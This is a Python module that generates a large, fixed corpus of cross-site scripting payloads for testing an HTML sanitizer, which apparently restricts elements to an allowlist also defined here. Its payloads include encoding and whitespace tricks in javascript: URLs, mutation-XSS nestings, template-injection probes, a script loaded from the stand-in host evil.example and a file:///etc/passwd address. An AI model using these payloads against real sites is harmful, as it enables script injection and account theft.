"""Scripts in disguise, made from a grammar: what is to run, in which place, written how."""

from __future__ import annotations

import random
from collections.abc import Iterator
from html import escape

CALL = "alert(1)"

# Elements that may be shown, whatever a feed says.
HARMLESS = frozenset(
    [
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "caption",
        "cite",
        "code",
        "dd",
        "del",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "small",
        "span",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "u",
        "ul",
        "var",
        "wbr",
    ]
)

_TAGS = [
    "a",
    "abbr",
    "audio",
    "b",
    "base",
    "bgsound",
    "blink",
    "body",
    "br",
    "button",
    "canvas",
    "details",
    "dialog",
    "div",
    "embed",
    "fieldset",
    "font",
    "form",
    "frame",
    "frameset",
    "head",
    "html",
    "iframe",
    "image",
    "img",
    "input",
    "isindex",
    "keygen",
    "layer",
    "link",
    "listing",
    "marquee",
    "math",
    "menu",
    "meta",
    "noembed",
    "noscript",
    "object",
    "option",
    "p",
    "picture",
    "plaintext",
    "pre",
    "q",
    "s",
    "script",
    "section",
    "select",
    "slot",
    "source",
    "span",
    "style",
    "summary",
    "svg",
    "table",
    "td",
    "template",
    "textarea",
    "title",
    "tr",
    "track",
    "u",
    "ul",
    "video",
    "x",
    "xmp",
    "xss",
]
_EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "onanimationstart",
    "onwheel",
    "oncopy",
    "onbeforeprint",
    "onbounce",
    "onscrollend",
    "ontransitionrun",
    "onhashchange",
    "oninvalid",
    "onloadstart",
    "onsecuritypolicyviolation",
    "onbeforematch",
]
_ADDRESSES = [
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
    "srcset",
    "srcdoc",
    "cite",
    "longdesc",
    "usemap",
    "dynsrc",
    "lowsrc",
    "ping",
    "manifest",
    "code",
    "codebase",
    "archive",
    "profile",
    "icon",
]
_SCHEMES = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"vbscript:{CALL}", f"livescript:{CALL}", f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={CALL}>",
    f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"java\rscript:{CALL}", f" \x01javascript:{CALL}", f"\u00a0javascript:{CALL}",
    f"jav&#x09;ascript:{CALL}", f"jav&#x0A;ascript:{CALL}", f"&#106;avascript:{CALL}", f"&#x6A&#x61vascript:{CALL}",
    f"&#0000106avascript:{CALL}", f"javascript&colon;{CALL}", f"javascript&#58;{CALL}", f"java&Tab;script:{CALL}",
    f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}", f"jar:javascript:{CALL}", f"mhtml:http://evil.example/x!{CALL}",
    f"blob:javascript:{CALL}", "filesystem:http://evil.example/x", "file:///etc/passwd", f"javascript://evil.example/%0a{CALL}",
    f"javascript:/*http://x*/{CALL}", f"\ufeffjavascript:{CALL}", f"ｊavascript:{CALL}", f"about:blank#{CALL}",
)  # fmt: skip
_SHAPES = (
    "<{tag} {event}={call}>", "<{tag} {event}='{call}'>x</{tag}>", "<{tag}/{event}={call}>", "<{tag}\t{event}\n=\n{call}>",
    "<{tag} x=\"'\" {event}={call}>", "<{upper} {event}={call}>", "<{tag} {event}=&#97;lert(1)>", "<{tag} {event}={call}//",
    "<<{tag} {event}={call}>>", "<{tag} \x00{event}={call}>", "<{tag} style=x:expression({call}) {event}={call}>",
    "<{tag} autofocus tabindex=1 {event}={call}>x</{tag}>", "<{tag}\x0c{event}={call}>", "<{tag} a='>' {event}={call}>",
)  # fmt: skip
_WHOLE = (
    f"<script>{CALL}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<script x>{CALL}</script y>", f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script\n>{CALL}</script\n>", f"<script/x>{CALL}</script>", f"<svg><script>{CALL}</script></svg>", f"<svg><script href=data:,{CALL} />",
    f"<svg><style><img src=x onerror={CALL}></style></svg>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={CALL}&gt;\">",
    f"<math><mi><style><!--</style><a title='--&gt;&lt;img src=x onerror={CALL}&gt;'>", f"<svg></p><style><a id=\"</style><img src=1 onerror={CALL}>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<table><td background='javascript:{CALL}'>", f"<style>@import 'javascript:{CALL}';</style>", f"<style>*{{background:url(javascript:{CALL})}}</style>",
    f"<div style=\"background:url(javascript:{CALL})\">", f"<div style=\"width:expression({CALL})\">", f"<div style='behavior:url(#default#time2)' onbegin={CALL}>",
    f"<link rel=stylesheet href=javascript:{CALL}>", f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<base href=javascript:{CALL}//>", f"<iframe srcdoc='<script>{CALL}</script>'>", f"<iframe src=javascript:{CALL}>", f"<object data=javascript:{CALL}>",
    f"<embed src=data:image/svg+xml,<svg/onload={CALL}>>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text>x</text></a>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{CALL}'/>#x\">", f"<svg><foreignObject><iframe src=javascript:{CALL}></foreignObject>", f"<svg><set attributeName=onmouseover to={CALL}>",
    f"<![CDATA[<script>{CALL}</script>]]>", f"]]><script>{CALL}</script>", f"--><script>{CALL}</script><!--", f"'\"><script>{CALL}</script>", f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"</style><script>{CALL}</script>", f"</template><img src=x onerror={CALL}>", f"<!--[if IE]><script>{CALL}</script><![endif]-->",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>", f"<?php {CALL} ?><script>{CALL}</script>", f"<%<script>{CALL}</script>%>",
    f"{{{{constructor.constructor('{CALL}')()}}}}", "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}", f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;", f"%3Cscript%3E{CALL}%3C/script%3E", f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f"＜script＞{CALL}＜/script＞", f"<ſcript>{CALL}</ſcript>",
    f"<img src=x:x onerror=\u2028{CALL}>", f"<img src='x' srcset='x 1x, javascript:{CALL} 2x'>", f"<a href='https://ok.example' onclick={CALL}>x</a>", "<a target=_blank rel=opener href=https://evil.example>x</a>",
    "<p id=location><p name=cookie><form id=document><input name=cookie>", "<a href=\"//evil.example\">x</a>", f"<img src=\"x` `<script>{CALL}</script>\"` `>", f"<x contenteditable onblur={CALL}>", f"<input onfocus={CALL} autofocus>",
    f"<video><source onerror={CALL}></video>", f"<audio src onloadstart={CALL}>", f"<details open ontoggle={CALL}>", f"<marquee onstart={CALL}>", f"<body onload={CALL}>", f"<select onfocus={CALL} autofocus>",
    f"<ruby><rt><template shadowrootmode=open><script>{CALL}</script></template></rt></ruby>", f"<plaintext><script>{CALL}", f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>", f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
)  # fmt: skip


def payloads() -> list[str]:
    """Several hundred, always the same."""
    return list(dict.fromkeys(_made(random.Random(1))))


def _made(chance: random.Random) -> Iterator[str]:
    yield from _WHOLE
    for tag in _TAGS:
        for shape in chance.sample(_SHAPES, 4):
            yield shape.format(tag=tag, upper=tag.upper(), event=chance.choice(_EVENTS), call=CALL)
    for scheme in _SCHEMES:
        yield f'<a href="{scheme.replace(chr(34), "&quot;")}">x</a>'
        yield f"<img src='{scheme}'>"
        for attribute in chance.sample(_ADDRESSES, 4):
            yield f'<{chance.choice(_TAGS)} {attribute}="{escape(scheme, quote=True)}">x'
    for _ in range(120):  # one within another
        outer, inner = chance.choice(_WHOLE), chance.choice(_WHOLE)
        at = chance.randrange(len(outer))
        yield outer[:at] + inner + outer[at:]


def addresses() -> tuple[str, ...]:
    """What stands where an address is expected."""
    return _SCHEMES
